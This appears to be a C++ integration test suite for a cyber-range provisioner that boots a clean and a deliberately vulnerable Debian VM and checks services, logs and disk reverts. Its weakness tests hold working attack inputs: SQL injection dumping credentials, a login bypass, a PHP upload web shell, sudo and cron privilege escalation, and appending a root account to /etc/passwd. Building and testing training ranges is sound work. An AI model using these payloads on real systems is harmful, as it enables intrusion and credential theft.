// Two real debian-template nodes on qemu:///system under TCG, booted once
// for the whole suite (ctest runs a slow suite in one process): "web" runs
// every service of the template (nginx + PHP-FPM, OpenSSH, MariaDB, Samba,
// Postfix, Dovecot, vsftpd, BIND) with no weakness; "weak" runs nginx,
// OpenSSH, MariaDB and Samba with every weakness of the template's manifest
// planted. The suite checks that the declarations arrived through the guest
// agent, that the services answer and log where a defender looks, that each
// weakness is exploitable on "weak" and absent on "web" (traffic from the
// nodes themselves, through the guest agent), and that a revert gives a node
// back its pristine disk. Always takes the range down again. Address pool:
// 10.64.0.0/16.

#include <fmt/format.h>
#include <gtest/gtest.h>
#include <unistd.h>

#include <chrono>
#include <fstream>
#include <iostream>
#include <nlohmann/json.hpp>
#include <thread>

#include "livefire/net/conn.h"
#include "livefire/testing/libvirt_range.h"

namespace livefire::provision {
namespace {

using testsupport::HttpGet;
using testsupport::LibvirtRange;

constexpr const char* kWeaknesses[] = {
    "php-sqli",           "php-upload-rce",    "ssh-weak-password",    "sudo-gtfobins",
    "backup-credentials", "samba-guest-write", "mariadb-default-root", "writable-cron"};

class DebianNode : public ::testing::Test {
 protected:
  static void SetUpTestSuite() {
    if (!testsupport::BuildTemplate("debian")) return;
    range_ = LibvirtRange::Open("debian-slow").release();
    if (range_ == nullptr) return;

    const int o = getpid() % 250 + 1;  // 10.64.o.0/24, apart from concurrent runs
    plan_ = new topology::RangePlan;
    plan_->scenario = "debian-slowtest";
    plan_->blue_teams = {"blue1"};
    plan_->networks = {{"blue1.dmz", "dmz", "blue1", fmt::format("10.64.{}.0/24", o),
                        fmt::format("10.64.{}.1", o), 24, "", ""}};
    UpOptions u;
    u.parallelism = 2;
    u.retries = 0;
    u.ready_timeout = Duration::Seconds(600);
    for (int i : {10, 20}) {
      topology::PlannedDomain d;
      d.node = i == 10 ? "web" : "weak";
      d.key = "blue1." + d.node;
      d.team = "blue1";
      d.template_name = "debian";
      d.resources = {1, 1024, 0};
      d.interfaces = {{"blue1.dmz", fmt::format("10.64.{}.{}", o, i), 24,
                       fmt::format("52:54:00:64:{:02x}:{}", o, i)}};
      plan_->domains.push_back(d);
      GuestSpec g;
      g.services = {{"http", "tcp", 80}, {"ssh", "tcp", 22}, {"mysql", "tcp", 3306},
                    {"smb", "tcp", 445}};
      if (i == 10) {  // every other service of the template on "web"
        g.services.insert(g.services.end(), {{"smtp", "tcp", 25},
                                             {"imap", "tcp", 143},
                                             {"ftp", "tcp", 21},
                                             {"dns", "udp", 53}});
      }
      g.accounts = {{"operator", "Winter2026!"}};
      g.flag = "FLAG{debian-slow-test}";
      g.files = {{"/var/www/html/sum.php", "<?php echo 'sum=' . (6 * 7) . \"\\n\";\n", 0644}};
      if (i == 20) g.vulnerabilities.assign(std::begin(kWeaknesses), std::end(kWeaknesses));
      u.guests[d.key] = g;
    }
    auto r = range_->Up(*plan_, u, &up_seconds_);
    ASSERT_TRUE(r.ok()) << r.status().ToString();
    up_ = new UpReport(*r);
  }

  static void TearDownTestSuite() {
    delete range_;
    delete plan_;
    delete up_;
  }

  void SetUp() override {
    if (up_ == nullptr) GTEST_FAIL() << "the nodes did not come up (see SetUpTestSuite)";
  }

  static const std::string& Addr(int i) { return plan_->domains[i].interfaces[0].address; }
  static const std::string& WebAddr() { return Addr(0); }
  static const std::string& WeakAddr() { return Addr(1); }
  static ExecResult Run(const std::string& script, const char* node = "web") {
    return range_->Run("blue1", node, script);
  }
  static ExecResult Weak(const std::string& script) { return Run(script, "weak"); }

  static inline LibvirtRange* range_ = nullptr;
  static inline topology::RangePlan* plan_ = nullptr;
  static inline UpReport* up_ = nullptr;
  static inline double up_seconds_ = 0;
};

TEST_F(DebianNode, BootsReadyWithTheDeclaredServicesListening) {
  ASSERT_EQ(up_->domains.size(), 2u);
  for (const auto& d : up_->domains) EXPECT_TRUE(d.ok) << d.key << ": " << d.status.ToString();
  // Ready means: agent answers, configuration applied, the declared ports accept.
  EXPECT_TRUE(net::TcpConnects(WebAddr(), 22, net::Clock::now() + std::chrono::seconds(5)));
  EXPECT_EQ(Run("cat /etc/hostname").out, "web\n");
  // A port may accept a moment before systemd has read the daemon's pid file.
  const std::string units = "nginx php8.2-fpm ssh mariadb smbd postfix dovecot vsftpd named";
  std::string all;
  for (int i = 0; i < 9; ++i) all += "active\n";
  std::string active;
  for (int i = 0; i < 30; ++i) {
    active = Run("systemctl is-active " + units).out;
    if (active == all) break;
    std::this_thread::sleep_for(std::chrono::seconds(1));
  }
  EXPECT_EQ(active, all) << units;
  EXPECT_NE(Run("dig +short @127.0.0.1 web.lf.range").out, "");
  // Undeclared services stay off ("weak" runs only http, ssh, mysql, smb).
  EXPECT_EQ(Weak("systemctl is-active postfix named vsftpd dovecot").out,
            "inactive\ninactive\ninactive\ninactive\n");
  const std::string mem = Run("free -m | awk '/^Mem:/ {print $3}'").out;
  std::cerr << "debian boot-to-ready, 2 nodes in parallel: " << up_seconds_ << " s (Up report "
            << up_->seconds << " s; ready " << up_->domains[0].ready_seconds << " s and "
            << up_->domains[1].ready_seconds << " s); web guest memory used "
            << mem.substr(0, mem.size() - 1) << " MiB\n";
}

TEST_F(DebianNode, HttpRequestLandsInTheNginxAccessLogAndPhpRuns) {
  const std::string probe = fmt::format("/lf-probe-{}.html", getpid());
  std::string page = HttpGet(WebAddr(), 80, probe);
  EXPECT_NE(page.find("HTTP 404"), std::string::npos) << page.substr(0, 200);
  std::string php = HttpGet(WebAddr(), 80, "/sum.php");
  EXPECT_NE(php.find("HTTP 200"), std::string::npos) << php;
  EXPECT_NE(php.find("sum=42"), std::string::npos) << php;
  // The portal application (http + mysql) answers with its database.
  std::string lookup = HttpGet(WebAddr(), 80, "/tra-cuu.php?ma=HS-2026-000231");
  EXPECT_NE(lookup.find("HTTP 200"), std::string::npos) << lookup;
  EXPECT_NE(lookup.find("Trần Thị Bình"), std::string::npos) << lookup;
  // nginx writes its combined-format line with the peer (the host's address
  // on the range network) and the path.
  std::string log;
  for (int i = 0; i < 20 && log.find(probe) == std::string::npos; ++i) {
    log = range_->Pull("blue1", "web", "/var/log/nginx/access.log");
    if (log.find(probe) == std::string::npos) std::this_thread::sleep_for(std::chrono::seconds(1));
  }
  EXPECT_NE(log.find("\"GET " + probe + " HTTP/1.1\" 404"), std::string::npos) << log;
  EXPECT_NE(log.find(plan_->networks[0].host_address), std::string::npos) << log;
  EXPECT_NE(log.find("\"GET /sum.php HTTP/1.1\" 200"), std::string::npos) << log;
}

TEST_F(DebianNode, AccountsFlagAndSecretsThroughTheAgentOnly) {
  EXPECT_EQ(Run("id -u operator >/dev/null && echo yes").out, "yes\n");
  EXPECT_EQ(Run("stat -c '%a %U' /root/flag.txt; cat /root/flag.txt").out,
            "600 root\nFLAG{debian-slow-test}\n");
  EXPECT_EQ(Run("stat -c %a /run/livefire; test -e /run/livefire/config || echo gone").out,
            "700\ngone\n");
  const std::string cmdline = Run("cat /proc/cmdline").out;
  EXPECT_NE(cmdline.find("root=/dev/vda"), std::string::npos) << cmdline;
  const std::string logs =
      Run("cat /proc/cmdline /var/log/lf-init.log /var/log/syslog 2>/dev/null; dmesg").out;
  for (const char* secret : {"debian-slow-test", "Winter2026", "lf.pw", "lf.flag"}) {
    EXPECT_EQ(logs.find(secret), std::string::npos) << secret << " in:\n" << logs;
  }
  // The password is the declared one (checked last: this command names it).
  EXPECT_EQ(Run("h=$(getent shadow operator | cut -d: -f2); "
                "[ \"$(perl -e 'print crypt($ARGV[0], $ARGV[1])' 'Winter2026!' \"$h\")\" = \"$h\" ] "
                "&& echo match")
                .out,
            "match\n");
  // auth.log, syslog and auditd are there.
  EXPECT_EQ(Run("test -s /var/log/auth.log && test -s /var/log/syslog && "
                "test -s /var/log/audit/audit.log && echo logs")
                .out,
            "logs\n");
}

// ---- weaknesses: exploitable on "weak", absent on "web" ------------------------------

TEST_F(DebianNode, EveryManifestWeaknessIsPlantedWithoutWarnings) {
  const std::string log = range_->Pull("blue1", "weak", "/var/log/lf-init.log");
  for (const char* id : kWeaknesses) {
    EXPECT_NE(log.find(fmt::format("weakness {} planted", id)), std::string::npos) << id << log;
  }
  EXPECT_EQ(log.find("warning"), std::string::npos) << log;
  EXPECT_EQ(range_->Pull("blue1", "web", "/var/log/lf-init.log").find("weakness"),
            std::string::npos);
}

TEST_F(DebianNode, PhpSqliDumpsTheStaffTableOnlyWhenPlanted) {
  const std::string url =
      "http://127.0.0.1/tra-cuu.php?ma=x%27%20UNION%20SELECT%20ten_dang_nhap,mat_khau,"
      "ho_ten,chuc_vu%20FROM%20can_bo%20--%20x";
  const std::string dump = Weak("curl -s '" + url + "'").out;
  EXPECT_NE(dump.find("<td>operator</td><td>Winter2026!</td>"), std::string::npos) << dump;
  const std::string safe = Run("curl -s '" + url + "'").out;
  EXPECT_NE(safe.find("Không tìm thấy hồ sơ"), std::string::npos) << safe;
  EXPECT_EQ(safe.find("Winter2026"), std::string::npos) << safe;
  // The login's bypass.
  const std::string login =
      "curl -s -o /dev/null -w '%{http_code}' --data-urlencode \"ten_dang_nhap=x' OR '1'='1' -- x\" "
      "--data-urlencode mat_khau=x http://127.0.0.1/dang-nhap.php";
  EXPECT_EQ(Weak(login).out, "302");
  EXPECT_EQ(Run(login).out, "401");
}

TEST_F(DebianNode, PhpUploadRunsAnUploadedScriptOnlyWhenPlanted) {
  const std::string attack =
      "printf '<?php echo \"rce-\" . (6 * 7) . \" uid=\" . exec(\"id -u\");' >/tmp/anh.php; "
      "curl -s -o /dev/null -w '%{http_code} ' -F ho_ten=A -F thu_tuc=B "
      "-F 'tep=@/tmp/anh.php;type=image/jpeg' http://127.0.0.1/nop-ho-so.php; "
      "curl -s -w ' %{http_code}' http://127.0.0.1/uploads/anh.php";
  EXPECT_EQ(Weak(attack).out, "200 rce-42 uid=33 200");
  const std::string safe = Run(attack).out;
  EXPECT_EQ(safe.substr(0, 4), "400 ") << safe;
  EXPECT_EQ(safe.find("rce-42"), std::string::npos) << safe;
  EXPECT_NE(safe.find(" 404"), std::string::npos) << safe;
}

TEST_F(DebianNode, SshAcceptsTheDeclaredPasswordOnlyWhenPlanted) {
  // OpenSSH asks SSH_ASKPASS for the password (no sshpass in Debian's base).
  auto ssh = [](const std::string& addr) {
    return fmt::format(
        "printf '#!/bin/sh\\necho Winter2026!\\n' >/tmp/ap && chmod 700 /tmp/ap && "
        "SSH_ASKPASS=/tmp/ap SSH_ASKPASS_REQUIRE=force ssh -o StrictHostKeyChecking=no "
        "-o UserKnownHostsFile=/dev/null -o ConnectTimeout=30 -o NumberOfPasswordPrompts=1 "
        "operator@{} id -un </dev/null 2>&1",
        addr);
  };
  EXPECT_NE(Weak(ssh(WeakAddr())).out.find("operator\n"), std::string::npos);
  const std::string safe = Run(ssh(WebAddr())).out;
  EXPECT_NE(safe.find("Permission denied (publickey)"), std::string::npos) << safe;
  // Both attempts are in auth.log, where a defender looks.
  EXPECT_NE(range_->Pull("blue1", "weak", "/var/log/auth.log")
                .find("Accepted password for operator from " + WeakAddr()),
            std::string::npos);
}

TEST_F(DebianNode, SudoFindGivesRootOnlyWhenPlanted) {
  const std::string esc =
      "su -s /bin/sh operator -c 'sudo -n find /etc/hostname -exec id -u \\;' 2>&1";
  EXPECT_EQ(Weak(esc).out, "0\n");
  EXPECT_NE(Run(esc).out.find("password is required"), std::string::npos);
}

TEST_F(DebianNode, BackupWithCredentialsIsWorldReadableOnlyWhenPlanted) {
  const std::string get =
      "curl -s -w '\\n%{http_code}' http://127.0.0.1/backup/db.sql.bak; echo; "
      "su -s /bin/sh nobody -c 'cat /var/backups/db.sql.bak' >/dev/null 2>&1 && echo readable";
  const std::string leak = Weak(get).out;
  EXPECT_NE(leak.find("mysql -u dvc -p'"), std::string::npos) << leak.substr(0, 400);
  EXPECT_NE(leak.find("'operator','Winter2026!'"), std::string::npos) << leak;
  EXPECT_NE(leak.find("\n200\nreadable\n"), std::string::npos) << leak.substr(leak.size() - 40);
  const std::string safe = Run(get).out;
  EXPECT_EQ(safe.find("Winter2026"), std::string::npos);
  EXPECT_NE(safe.find("\n404\n"), std::string::npos) << safe;
  EXPECT_EQ(safe.find("readable"), std::string::npos);
}

TEST_F(DebianNode, SambaShareTakesGuestWritesOnlyWhenPlanted) {
  auto put = [](const std::string& addr) {
    return fmt::format(
        "echo proof >/tmp/p.txt; smbclient -U 'guest%' //{}/shared -c 'put /tmp/p.txt "
        "guest-proof.txt' 2>&1; ls /srv/samba/shared",
        addr);
  };
  EXPECT_NE(Weak(put(WeakAddr())).out.find("guest-proof.txt"), std::string::npos);
  const std::string safe = Run(put(WebAddr())).out;
  EXPECT_NE(safe.find("NT_STATUS_"), std::string::npos) << safe;
  EXPECT_EQ(safe.find("guest-proof.txt\n"), std::string::npos) << safe;
}

TEST_F(DebianNode, MariadbRootWithoutPasswordFromTheNetworkOnlyWhenPlanted) {
  auto root = [](const std::string& addr) {
    return fmt::format("mysql -h {} -u root -N -e 'SELECT CURRENT_USER()' 2>&1", addr);
  };
  EXPECT_EQ(Weak(root(WeakAddr())).out, "root@%\n");
  // Refused: the host is not allowed (1130) or the password is wrong (1045);
  // the client may wrap 1130 in a TLS-handshake ERROR 2002 that quotes it.
  const std::string safe = Run(root(WebAddr())).out;
  EXPECT_TRUE(safe.find("ERROR 1") != std::string::npos ||
              safe.find("1130 - Host") != std::string::npos)
      << safe;
  EXPECT_EQ(safe.find("root@"), std::string::npos) << safe;
}

TEST_F(DebianNode, CronRunsAWorldWritableScriptAsRootOnlyWhenPlanted) {
  const std::string script = "/usr/local/bin/don-tep-tam.sh";
  ASSERT_EQ(Weak("su -s /bin/sh nobody -c \"printf '#!/bin/sh\\nid -u >/tmp/cron-proof\\n' >" +
                 script + "\" && echo written")
                .out,
            "written\n");
  std::string proof;
  for (int i = 0; i < 90 && proof != "0\n"; ++i) {
    if (i) std::this_thread::sleep_for(std::chrono::seconds(1));
    proof = Weak("cat /tmp/cron-proof 2>/dev/null").out;
  }
  EXPECT_EQ(proof, "0\n") << "root's cron did not run the rewritten script within 90 s";
  EXPECT_EQ(Run("test -e " + script + " || ls /etc/cron.d | grep -c don-tep-tam").out, "0\n");
}

// Last: it reverts "web".
TEST_F(DebianNode, RevertGivesBackThePristineDisk) {
  const TeamId team("blue1");
  const NodeId web("web");
  auto& prov = range_->prov();
  const ExerciseId& ex = range_->exercise();
  ASSERT_TRUE(prov.PushFile(ex, team, web, "/var/www/html/index.php", "defaced by red\n", 0644).ok());
  ASSERT_NE(HttpGet(WebAddr(), 80, "/").find("defaced by red"), std::string::npos);
  ASSERT_EQ(Run("echo 'red:x:0:0::/root:/bin/bash' >> /etc/passwd; sync; echo ok").out, "ok\n");
  auto recs = prov.Revert(ex, team, web, "debian slow test", Duration::Seconds(600));
  ASSERT_TRUE(recs.ok()) << recs.status().ToString();
  ASSERT_EQ(recs->size(), 1u);
  EXPECT_TRUE((*recs)[0].ok) << (*recs)[0].error;
  std::cerr << "debian revert (" << (*recs)[0].method << "): " << (*recs)[0].seconds << " s\n";
  EXPECT_EQ(HttpGet(WebAddr(), 80, "/").find("defaced by red"), std::string::npos);
  EXPECT_NE(HttpGet(WebAddr(), 80, "/").find("HTTP 200"), std::string::npos);
  EXPECT_EQ(Run("grep -c '^red:' /etc/passwd").out, "0\n");
  // Re-planted after the revert.
  std::string php;
  for (int i = 0; i < 10 && php.find("sum=42") == std::string::npos; ++i) {
    if (i) std::this_thread::sleep_for(std::chrono::seconds(1));
    php = HttpGet(WebAddr(), 80, "/sum.php");
  }
  EXPECT_NE(php.find("sum=42"), std::string::npos) << php;

  // Snapshot (memory + overlay copy), deface, revert: the overlay swap and
  // restore take seconds, not a boot.
  ASSERT_TRUE(prov.Snapshot(ex, team, web).ok());
  ASSERT_NE(HttpGet(WebAddr(), 80, "/").find("HTTP 200"), std::string::npos)
      << "the node must keep running after a snapshot";
  ASSERT_TRUE(prov.PushFile(ex, team, web, "/var/www/html/index.php", "defaced again\n", 0644).ok());
  ASSERT_EQ(Run("sync; echo ok").out, "ok\n");
  auto fast = prov.Revert(ex, team, web, "debian slow test", Duration::Seconds(600));
  ASSERT_TRUE(fast.ok()) << fast.status().ToString();
  EXPECT_TRUE((*fast)[0].ok) << (*fast)[0].error;
  EXPECT_EQ((*fast)[0].method, "restore");
  std::cerr << "debian revert (restore): " << (*fast)[0].seconds << " s\n";
  EXPECT_LT((*fast)[0].seconds, 60);
  EXPECT_EQ(HttpGet(WebAddr(), 80, "/").find("defaced again"), std::string::npos);
  EXPECT_EQ(Run("grep -c defaced /var/www/html/index.php").out, "0\n");

  std::ifstream log(prov.Paths(ex).reverts());
  std::string line;
  int n = 0;
  while (std::getline(log, line)) {
    auto j = nlohmann::json::parse(line);
    EXPECT_EQ(j["node"], "web");
    EXPECT_EQ(j["ok"], true);
    ++n;
  }
  EXPECT_EQ(n, 2);
}

}  // namespace
}  // namespace livefire::provision
